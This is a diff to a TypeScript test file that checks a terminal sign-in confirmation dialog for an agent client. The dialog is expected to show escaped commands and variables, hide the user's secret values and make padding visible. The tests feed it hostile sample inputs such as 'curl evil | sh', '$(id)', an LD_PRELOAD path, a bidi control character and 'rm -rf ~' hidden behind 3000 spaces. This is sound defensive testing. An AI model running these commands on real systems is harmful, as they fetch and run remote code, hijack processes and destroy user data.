@@ -1,5 +1,5 @@
 import { strict as assert } from "node:assert";
-import { commandLine, isAuthRequired, signInMethods, signInReasonRows, signInRows, signInTitle, variablesLine, type SignInMethod } from "./acp-auth";
+import { commandLine, isAuthRequired, signInMethods, signInReasonRows, signInRows, signInTitle, terminalConfirmRows, variablesLine, type SignInMethod } from "./acp-auth";
 
 /** What a quick pick would draw as an icon or hide: an unescaped `$(`, a control, bidi or zero-width character, a newline. */
 function hostile(text: string): string | undefined {
@@ -94,5 +94,40 @@ describe("ACP sign-in: methods and the quick pick's rows", () => {
     assert.equal(isAuthRequired({ code: -32603, message: "Authentication required" }), false);
     assert.equal(isAuthRequired(new Error("Authentication required")), false);
     assert.equal(isAuthRequired(undefined), false);
+  });
+
+  it("a terminal sign-in's confirmation: the whole command line, the agent's variables with their values, the user's by name, the folder, with Run and Cancel; hostile text plain", () => {
+    const method = { kind: "terminal" as const, id: "t", name: "t", description: "", command: "sh", args: ["-c", "curl evil | sh\n$(id)"], env: { "LD_PRELOAD": "/tmp/x.so\u202e", "$(bug)": "v", PROXY: "agent's" }, userEnv: { PROXY: "http://user:hunter2@p", "MY\nVAR": "secret-value" } };
+    const rows = terminalConfirmRows(method, "/work/my $(folder)");
+    for (const row of rows) assert.equal(hostile(row.label), undefined, row.label);
+    const text = rows.map((r) => r.label.replace(/^\u00a0\u00a0/, "")).join("\n");
+    assert.ok(text.includes("sh -c 'curl evil | sh\\n\\$(id)'"), text);
+    assert.ok(text.includes("LD_PRELOAD=/tmp/x.so\\u202e"), text);
+    assert.ok(text.includes("\\$(bug)=v"), text);
+    assert.ok(text.includes("/work/my \\$(folder)"), text);
+    assert.ok(text.includes("outside the agent's sandbox"), text);
+    // The user's own variables by name only (their values may be a password); the agent's replacing one is said.
+    assert.ok(text.includes("PROXY, MY\\nVAR"), text);
+    assert.ok(!text.includes("hunter2") && !text.includes("secret-value"), text);
+    assert.ok(text.includes("PROXY=agent's (instead of your pi.agent.env's)"), text);
+    assert.deepEqual(rows.filter((r) => r.action).map((r) => [r.label, r.action]), [["Run in a terminal", "run"], ["Cancel", "cancel"]]);
+    assert.equal(rows[2]!.action, undefined, "then text: Enter on it runs nothing (the pick makes it the active row)");
+  });
+
+  it("a terminal sign-in's confirmation counts blank runs in the command and the agent's variables: nothing pushed out of sight", () => {
+    const blanks = " ".repeat(3000);
+    const method = { kind: "terminal" as const, id: "t", name: "t", description: "", command: "login", args: [`now${blanks}; curl evil | sh`], env: { MODE: `1${blanks}; rm -rf ~` }, userEnv: {} };
+    const text = terminalConfirmRows(method, "/work").map((r) => r.label).join("\n");
+    assert.ok(text.includes("⟨3000 blank characters⟩; curl evil | sh"), text.slice(0, 400));
+    assert.ok(text.includes("MODE=1⟨3000 blank characters⟩; rm -rf ~"), text.slice(0, 400));
+    assert.ok(text.length < 1000, `${text.length} characters`);
+  });
+
+  it("a terminal method's variables: only names an environment can hold (no `=`, newline or empty name that would show one variable and set another)", () => {
+    const env = { "A=B": "x", OK_1: "y", "bad\nname": "z", "": "e", "1ST": "d", "LD_PRELOAD": "/tmp/x.so" };
+    const [spec] = signInMethods([{ id: "t", name: "t", type: "terminal", env }], { command: "agent", args: [] });
+    assert.deepEqual(spec && spec.kind === "terminal" && spec.env, { OK_1: "y", LD_PRELOAD: "/tmp/x.so" });
+    const [meta] = signInMethods([{ id: "m", name: "m", _meta: { "terminal-auth": { command: "login", env } } }], undefined);
+    assert.deepEqual(meta && meta.kind === "terminal" && meta.env, { OK_1: "y", LD_PRELOAD: "/tmp/x.so" });
   });
 });
